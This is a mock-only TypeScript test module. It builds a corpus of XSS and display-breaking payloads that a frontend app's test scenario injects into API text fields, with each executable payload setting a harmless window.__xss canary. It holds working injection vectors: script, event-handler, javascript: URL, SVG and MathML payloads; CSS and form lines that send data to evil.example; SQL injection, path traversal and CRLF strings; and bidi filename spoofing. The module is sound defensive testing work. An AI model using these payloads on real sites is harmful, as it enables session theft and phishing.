// Hostile text (issue #30, point 1): a corpus of payloads that the `hostile` mock scenario puts
// into every free-text field of the API's answers. Mock-only: nothing outside src/mocks imports
// it, so it never reaches the production build (scripts/check-dist.mjs).
// Every payload that could execute sets `window.__xss` to its own id, so a test that finds the
// canary set knows which payload got through. The rest (bidi, zero-width, very long, emoji)
// test layout and literal display.

export type PayloadKind =
  | 'script'
  | 'handler'
  | 'javascriptUrl'
  | 'svg'
  | 'mathml'
  | 'css'
  | 'markup'
  | 'bidi'
  | 'zeroWidth'
  | 'long'
  | 'emoji';

export interface Payload {
  /** p1, p2, …: what a payload that executes writes into window.__xss. */
  id: string;
  kind: PayloadKind;
  text: string;
}

/** `window.__xss='<id>'` as it is written inside an attribute (single quotes). */
const set = (id: string) => `window.__xss='${id}'`;

type Maker = (id: string) => string;

const script: Maker[] = [
  (id) => `<script>${set(id)}</script>`,
  (id) => `<SCRIPT>${set(id)}</SCRIPT>`,
  (id) => `<script src="data:text/javascript,${set(id)}"></script>`,
  (id) => `"><script>${set(id)}</script>`,
  (id) => `'><script>${set(id)}</script>`,
  (id) => `</title><script>${set(id)}</script>`,
  (id) => `</textarea><script>${set(id)}</script>`,
  (id) => `<scr<script>ipt>${set(id)}</scr</script>ipt>`,
  (id) => `<script type="module">${set(id)}</script>`,
  (id) => `<script>/*--></script><script>${set(id)}//</script>`,
  (id) => `{{constructor.constructor("${set(id)}")()}}`,
  (id) => `\${${set(id)}}`,
  (id) => `<!--<script>${set(id)}</script>-->`,
  (id) => `<noscript><p title="</noscript><script>${set(id)}</script>">`,
  (id) => `<template><script>${set(id)}</script></template>`,
  (id) => `<iframe srcdoc="<script>parent.${set(id)}</script>"></iframe>`,
  (id) => `<object data="data:text/html,<script>parent.${set(id)}</script>"></object>`,
  (id) => `<embed src="data:text/html,<script>parent.${set(id)}</script>">`,
  (id) => `<base href="javascript:${set(id)}//">`,
  (id) => `<meta http-equiv="refresh" content="0;url=javascript:${set(id)}">`,
  (id) => `__proto__ <script>${set(id)}</script>`,
  (id) => `<script>alert(1);${set(id)}</script>`,
];

const handler: Maker[] = [
  (id) => `<img src=x onerror="${set(id)}">`,
  (id) => `<img src="x" onerror=${set(id)}>`,
  (id) => `<IMG SRC=x OnErRoR="${set(id)}">`,
  (id) => `<body onload="${set(id)}">`,
  (id) => `<div onmouseover="${set(id)}">hover</div>`,
  (id) => `<input autofocus onfocus="${set(id)}">`,
  (id) => `<select autofocus onfocus="${set(id)}"></select>`,
  (id) => `<textarea autofocus onfocus="${set(id)}"></textarea>`,
  (id) => `<details open ontoggle="${set(id)}">`,
  (id) => `<video><source onerror="${set(id)}"></video>`,
  (id) => `<audio src=x onerror="${set(id)}">`,
  (id) => `<marquee onstart="${set(id)}">x</marquee>`,
  (id) => `<button onclick="${set(id)}">Klick</button>`,
  (id) => `<a onmouseenter="${set(id)}">Link</a>`,
  (id) => `" onmouseover="${set(id)}" x="`,
  (id) => `' onfocus='${set(id)}' autofocus x='`,
  (id) => `" autofocus onfocus="${set(id)}`,
  (id) => `<img src=x onerror=&#119;indow.__xss='${id}'>`,
  (id) => `<img/src=x/onerror="${set(id)}">`,
  (id) => `<img src=x:x onerror=eval(atob('${btoaAscii(set(id))}'))>`,
  (id) => `<style onload="${set(id)}"></style>`,
  (id) => `<link rel=stylesheet href=x onerror="${set(id)}">`,
  (id) => `<iframe src=x onload="${set(id)}"></iframe>`,
  (id) => `<form><button formaction="javascript:${set(id)}">Senden</button></form>`,
  (id) => `<isindex type=image src=1 onerror="${set(id)}">`,
  (id) => `<img src=x onerror="${set(id)}"\u0000>`,
  (id) => `<x contenteditable onblur="${set(id)}">x</x>`,
  (id) => `<img src="x` + '`' + `onerror="${set(id)}">`,
];

const javascriptUrl: Maker[] = [
  (id) => `javascript:${set(id)}`,
  (id) => `JaVaScRiPt:${set(id)}`,
  (id) => ` javascript:${set(id)}`,
  (id) => `java\tscript:${set(id)}`,
  (id) => `java\nscript:${set(id)}`,
  (id) => `&#106;avascript:${set(id)}`,
  (id) => `javascript&colon;${set(id)}`,
  (id) => `<a href="javascript:${set(id)}">Klick mich</a>`,
  (id) => `<a href="JAVASCRIPT:${set(id)}">Profil</a>`,
  (id) => `<a href="&#x6A;avascript:${set(id)}">Link</a>`,
  (id) => `[Klick](javascript:${set(id)})`,
  (id) => `<a href="data:text/html,<script>${set(id)}</script>">Daten</a>`,
  (id) => `vbscript:${set(id)}`,
  (id) => `data:text/html;base64,${btoaAscii(`<script>${set(id)}</script>`)}`,
  (id) => `<iframe src="javascript:parent.${set(id)}"></iframe>`,
  (id) => `<form action="javascript:${set(id)}"><input type=submit></form>`,
  (id) => `<a href="javas&#99;ript:${set(id)}">x</a>`,
  (id) => `<a href=" &#14;javascript:${set(id)}">x</a>`,
  (id) => `https://example.com/"><script>${set(id)}</script>`,
  (id) => `//evil.example/?q=<script>${set(id)}</script>`,
];

const svg: Maker[] = [
  (id) => `<svg onload="${set(id)}">`,
  (id) => `<svg/onload=${set(id)}>`,
  (id) => `<svg><script>${set(id)}</script></svg>`,
  (id) => `<svg><a xlink:href="javascript:${set(id)}"><text x=0 y=20>Klick</text></a></svg>`,
  (id) => `<svg><animate onbegin="${set(id)}" attributeName=x dur=1s>`,
  (id) => `<svg><set attributeName=onload to="${set(id)}"/></svg>`,
  (id) => `<svg><foreignObject><img src=x onerror="${set(id)}"></foreignObject></svg>`,
  (id) =>
    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${set(id)}'/></svg>#x"/></svg>`,
  (id) => `<svg><style>@import 'javascript:${set(id)}';</style></svg>`,
  (id) => `<svg><image href=x onerror="${set(id)}"/></svg>`,
  (id) =>
    `<svg><animate xlink:href=#x attributeName=href values="javascript:${set(id)}"/><a id=x><text>x</text></a></svg>`,
  (id) => `<svg><desc><![CDATA[</desc><script>${set(id)}</script>]]></svg>`,
  (id) => `<svg><title><img src=x onerror="${set(id)}"></title></svg>`,
  (id) => `<svg xmlns="http://www.w3.org/2000/svg" onload="${set(id)}"/>`,
  (id) => `<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">${set(id)}</handler></svg>`,
  (id) => `<svg><discard onbegin="${set(id)}"/></svg>`,
  (id) => `<img src="data:image/svg+xml,<svg onload='${set(id)}'/>">`,
  (id) => `<svg><feImage href="javascript:${set(id)}"/></svg>`,
];

const mathml: Maker[] = [
  (id) => `<math><mtext><table><mglyph><style><img src=x onerror="${set(id)}">`,
  (id) => `<math href="javascript:${set(id)}">Formel</math>`,
  (id) => `<math><maction actiontype="statusline" xlink:href="javascript:${set(id)}">Klick</maction></math>`,
  (id) => `<math><mi xlink:href="javascript:${set(id)}">x</mi></math>`,
  (id) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${set(id)}"></annotation-xml></math>`,
  (id) =>
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><textarea><a title="</textarea><img src=x onerror='${set(id)}'>">`,
  (id) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${set(id)}">`,
  (id) =>
    `<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>${set(id)}</script></annotation-xml></semantics></math>`,
  (id) => `<math><mo onmouseover="${set(id)}">+</mo></math>`,
  (id) => `<math><mglyph src=x onerror="${set(id)}"/></math>`,
  (id) => `<math><a xlink:href="javascript:${set(id)}">∑</a></math>`,
  (id) => `<math><merror><img src=x onerror="${set(id)}"></merror></math>`,
];

const css: Maker[] = [
  (id) => `<style>body{background:url("javascript:${set(id)}")}</style>`,
  (id) => `<div style="background:url(javascript:${set(id)})">x</div>`,
  (id) => `<div style="width:expression(${set(id)})">x</div>`,
  (id) => `<style>*{display:none !important}</style>${id}`,
  (id) => `<style>@import url("//evil.example/${id}.css");</style>`,
  (id) => `<div style="position:fixed;inset:0;z-index:99999;background:red" data-id="${id}">Übernommen</div>`,
  (id) => `"; background-image: url(javascript:${set(id)}); x: "`,
  (id) => `</style><script>${set(id)}</script>`,
  (id) => `<style>input[value^="a"]{background:url(//evil.example/${id})}</style>`,
  (id) => `<link rel="stylesheet" href="javascript:${set(id)}">`,
  (id) => `<div style="-moz-binding:url(//evil.example/${id}.xml#x)">x</div>`,
  (id) => `<style>html{font-size:0 !important;width:99999px !important}</style><b>${id}</b>`,
  (id) => `color:red;}body{display:none}/*${id}*/`,
  (id) => `<p style="font-size:500px;white-space:nowrap">Riesig${id}</p>`,
  (id) => `<style>@keyframes x{}</style><div style="animation-name:x" onanimationstart="${set(id)}"></div>`,
  (id) => `<div style="behavior:url(#default#time2)" onbegin="${set(id)}">x</div>`,
];

const markup: Maker[] = [
  (id) => `<b>fett</b> <i>kursiv</i> ${id}`,
  (id) => `<h1>Überschrift ${id}</h1>`,
  (id) => `<marquee>Lauftext ${id}</marquee>`,
  (id) => `<blink>Blinkt ${id}</blink>`,
  (id) => `<table><tr><td>Zelle ${id}</td></tr></table>`,
  (id) => `<plaintext>Rest der Seite ${id}`,
  (id) => `<xmp><script>${set(id)}</script></xmp>`,
  (id) => `<!DOCTYPE html><html><body>${id}</body></html>`,
  (id) => `&lt;script&gt;${set(id)}&lt;/script&gt;`,
  (id) => `&amp;lt;b&amp;gt; ${id}`,
  (id) => `<![CDATA[<script>${set(id)}</script>]]>`,
  (id) => `<?xml version="1.0"?><x>${id}</x>`,
  (id) => `<dialog open>Dialog ${id}</dialog>`,
  (id) => `<input type="hidden" name="csrf" value="${id}">`,
  (id) => `<form action="//evil.example"><input name=pw placeholder="Passwort ${id}"></form>`,
  (id) => `<img src="//evil.example/track-${id}.gif">`,
  (id) => `% 0 %s %n %x {0} ${id}`,
  (id) => `'; DROP TABLE users; -- ${id}`,
  (id) => `" OR "1"="1 ${id}`,
  (id) => `../../../etc/passwd ${id}`,
  (id) => `\\u003cscript\\u003e${set(id)}\\u003c/script\\u003e`,
  (id) => `null undefined NaN [object Object] ${id}`,
  (id) => `__proto__ constructor prototype ${id}`,
  (id) => `\r\n\r\nSet-Cookie: x=${id}`,
];

const bidi: Maker[] = [
  (id) => `\u202Egnp.exe ${id}`,
  (id) => `Rechnung\u202Efdp.exe ${id}`,
  (id) => `\u202Dlinks nach rechts ${id}\u202C`,
  (id) => `\u2066isolat\u2069 \u2067RTL-Isolat\u2069 ${id}`,
  (id) => `\u2068erste starke Richtung\u2069 ${id}`,
  (id) => `\u200Fמחרוזת עברית ${id}`,
  (id) => `مرحبا بالعالم ${id}`,
  (id) => `\u202Beinbetten\u202C ${id}`,
  (id) => `\u202Aeinbetten links\u202C ${id}`,
  (id) => `admin\u202E\u2066 // Kommentar\u2069\u2066 ${id}`,
  (id) => `\u202E\u202E\u202E\u202E\u202E ${id}`,
  (id) => `Max\u200E_Mustermann\u200F ${id}`,
  (id) => `\u061Cأ\u061Cب ${id}`,
  (id) => `\u202E${'\u202E'.repeat(20)}offen ${id}`,
  (id) => `עברית English عربي ${id} \u2067mix\u2069`,
  (id) => `\u2069\u2069\u2069 unpaarig ${id}`,
];

const zeroWidth: Maker[] = [
  (id) => `Max\u200B_Mustermann ${id}`,
  (id) => `\u200B\u200B\u200B\u200B ${id}`,
  (id) => `nicht\u200Cverbunden ${id}`,
  (id) => `ver\u200Dbunden ${id}`,
  (id) => `\uFEFFBOM am Anfang ${id}`,
  (id) => `Wort\u2060Joiner ${id}`,
  (id) => `${'\u200B'.repeat(500)}${id}`,
  (id) => `a\u00ADb\u00ADc\u00ADd weiches Trennzeichen ${id}`,
  (id) => `\u180E mongolisch ${id}`,
  (id) => `\u034Fgrapheme joiner ${id}`,
  (id) => `Z̴̡̢̛̗̘̙̜̝̞̟̠̀́̂̃̄̅̆̇̉̊̋̌̍̎̏̐̑̒̓̔̚ͅa̵l̸g̷o̶ ${id}`,
  (id) => `${'e\u0301'.repeat(50)} ${id}`,
  (id) => `\u3164\u3164 Hangul-Füller ${id}`,
  (id) => `\u2800 Braille-Leerzeichen ${id}`,
  (id) => `\t\t\tTabs\t${id}`,
  (id) => `Zeile 1\nZeile 2\r\nZeile 3\u2028Zeile 4\u2029 ${id}`,
  (id) => `   führende und folgende Leerzeichen ${id}   `,
  (id) => `\u0000Null\u0000Byte ${id}`,
];

const long: Maker[] = [
  (id) => `${'A'.repeat(100_000)}${id}`,
  (id) => `${'Donaudampfschifffahrtsgesellschaftskapitän'.repeat(40)}${id}`,
  (id) => `https://example.com/${'a'.repeat(2_000)}?${id}`,
  (id) => `${'WWWWWWWWWW'.repeat(50)}${id}`,
  (id) => `${'😀'.repeat(1_000)}${id}`,
  (id) => `${'abc '.repeat(5_000)}${id}`,
  (id) => `${'&nbsp;'.repeat(300)}${id}`,
  (id) => `${'\u00A0'.repeat(300)}geschützte Leerzeichen${id}`,
  (id) => `${'-'.repeat(800)}${id}`,
  (id) => `${'a@b.de'.repeat(200)}${id}`,
  (id) => `${'0'.repeat(400)}${id}`,
  (id) => `${'﷽'.repeat(100)}${id}`,
];

const emoji: Maker[] = [
  (id) => `👨‍👩‍👧‍👦 Familie ${id}`,
  (id) => `🏳️‍🌈 🏴‍☠️ ${id}`,
  (id) => `👩🏽‍🚒👨🏿‍🚀🧑🏻‍⚕️ ${id}`,
  (id) => `🇩🇪🇦🇹🇨🇭 ${id}`,
  (id) => `${'👍🏾'.repeat(30)} ${id}`,
  (id) => `❤️‍🔥 ❤️‍🩹 ${id}`,
  (id) => `🧑‍🤝‍🧑 ${id}`,
  (id) => `#️⃣ *️⃣ 1️⃣ ${id}`,
  (id) => `🏴󠁧󠁢󠁳󠁣󠁴󠁿 Schottland ${id}`,
  (id) => `𝕳𝖆𝖈𝖐𝖊𝖗 𝓼𝓬𝓻𝓲𝓹𝓽 ${id}`,
  (id) => `${'🙂'.repeat(200)}${id}`,
  (id) => `(╯°□°)╯︵ ┻━┻ ${id}`,
  (id) => `😀\uFE0E😀\uFE0F ${id}`,
  (id) => `\uD83D ungepaartes Surrogat ${id}`,
  (id) => `${'👩‍💻'.repeat(60)}${id}`,
  (id) => `Ｆｕｌｌｗｉｄｔｈ ｔｅｘｔ ${id}`,
];

/** btoa for ASCII text (the corpus needs it before any browser API is there, e.g. in Node). */
function btoaAscii(text: string): string {
  const chars = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';
  let out = '';
  for (let i = 0; i < text.length; i += 3) {
    const [a, b, c] = [text.charCodeAt(i), text.charCodeAt(i + 1), text.charCodeAt(i + 2)];
    const n = (a << 16) | ((b || 0) << 8) | (c || 0);
    out += chars.charAt((n >> 18) & 63) + chars.charAt((n >> 12) & 63);
    out += i + 1 < text.length ? chars.charAt((n >> 6) & 63) : '=';
    out += i + 2 < text.length ? chars.charAt(n & 63) : '=';
  }
  return out;
}

const MAKERS: Record<PayloadKind, Maker[]> = {
  script,
  handler,
  javascriptUrl,
  svg,
  mathml,
  css,
  markup,
  bidi,
  zeroWidth,
  long,
  emoji,
};

/**
 * Every payload, interleaved by kind (one of each kind, then the next of each), so that a
 * round-robin over a short answer already meets every kind. Ids p1, p2, … in that order.
 */
export const PAYLOADS: readonly Payload[] = (() => {
  const kinds = Object.keys(MAKERS) as PayloadKind[];
  const rounds = Math.max(...kinds.map((k) => MAKERS[k].length));
  const out: Payload[] = [];
  for (let round = 0; round < rounds; round += 1) {
    for (const kind of kinds) {
      const make = MAKERS[kind][round];
      if (!make) continue;
      const id = `p${out.length + 1}`;
      out.push({ id, kind, text: make(id) });
    }
  }
  return out;
})();

/** The payloads of one kind. */
export const payloadsOf = (kind: PayloadKind): Payload[] => PAYLOADS.filter((p) => p.kind === kind);
